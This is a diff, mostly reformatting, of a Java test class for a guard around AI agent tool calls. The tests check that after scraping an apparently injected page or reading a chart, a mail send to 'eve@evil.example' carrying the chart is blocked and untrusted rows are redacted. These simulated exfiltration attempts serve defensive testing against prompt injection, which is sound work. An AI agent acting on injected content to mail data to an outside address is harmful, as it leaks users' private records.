@@ -45,7 +45,8 @@ class GuardedToolCallbackTest {
                 return ToolDefinition.builder()
                         .name(name)
                         .description(description)
-                        .inputSchema("{\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"string\"},\"text\":{\"type\":\"string\"}}}")
+                        .inputSchema(
+                                "{\"type\":\"object\",\"properties\":{\"to\":{\"type\":\"string\"},\"text\":{\"type\":\"string\"}}}")
                         .build();
             }
 
@@ -87,8 +88,8 @@ class GuardedToolCallbackTest {
     @Test
     void answers_taintTheConversation() {
         tool("scrape", input -> Clinic.PAGE).call("{}", in("one"));
-        assertTrue(
-                clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", "x")).isError());
+        assertTrue(clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", "x"))
+                .isError());
     }
 
     @Test
@@ -167,8 +168,7 @@ class GuardedToolCallbackTest {
         ToolCallback failing = tool("scrape", input -> {
             throw new IllegalStateException(Clinic.PAGE);
         });
-        ToolExecutionException thrown =
-                assertThrows(ToolExecutionException.class, () -> failing.call("{}", in("one")));
+        ToolExecutionException thrown = assertThrows(ToolExecutionException.class, () -> failing.call("{}", in("one")));
         assertEquals("[redacted: gone]", thrown.getMessage());
         assertEquals("scrape", thrown.getToolDefinition().name());
         for (Throwable each = thrown; each != null; each = each.getCause()) {
@@ -181,7 +181,8 @@ class GuardedToolCallbackTest {
         under(
                 "      rows: {effects: [reads], returns: {items: /rows/*, integrity: \"item.ok ? 'trusted' : 'untrusted'\"}}",
                 "redact: [{id: gone, when: \"label.integrity == 'untrusted'\"}]");
-        String rows = "{\"rows\":[{\"ok\":true,\"text\":\"good words stand here\"},{\"ok\":false,\"text\":\"" + Clinic.PAGE + "\"}]}";
+        String rows = "{\"rows\":[{\"ok\":true,\"text\":\"good words stand here\"},{\"ok\":false,\"text\":\""
+                + Clinic.PAGE + "\"}]}";
         String answer = tool("rows", input -> rows).call("{}", in("one"));
         assertTrue(answer.contains("good words stand here"), answer);
         assertFalse(answer.contains("eve"), answer);
@@ -222,11 +223,13 @@ class GuardedToolCallbackTest {
         clinic.close();
         clinic = new Clinic(builder -> builder, sluice -> sluice.withLocalServer("ward"));
         tool("read", input -> Clinic.CHART).call("{}", in("one"));
-        assertTrue(
-                clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", Clinic.CHART)).isError());
-        assertThrows(IllegalArgumentException.class, () -> clinic.sluice
-                .withLocalServer("no name")
-                .guard(raw("x", "x", input -> "x"))
-                .call("{}", in("one")));
+        assertTrue(clinic.call("one", "mail", "send", Map.of("to", "eve@evil.example", "body", Clinic.CHART))
+                .isError());
+        assertThrows(
+                IllegalArgumentException.class,
+                () -> clinic.sluice
+                        .withLocalServer("no name")
+                        .guard(raw("x", "x", input -> "x"))
+                        .call("{}", in("one")));
     }
 }
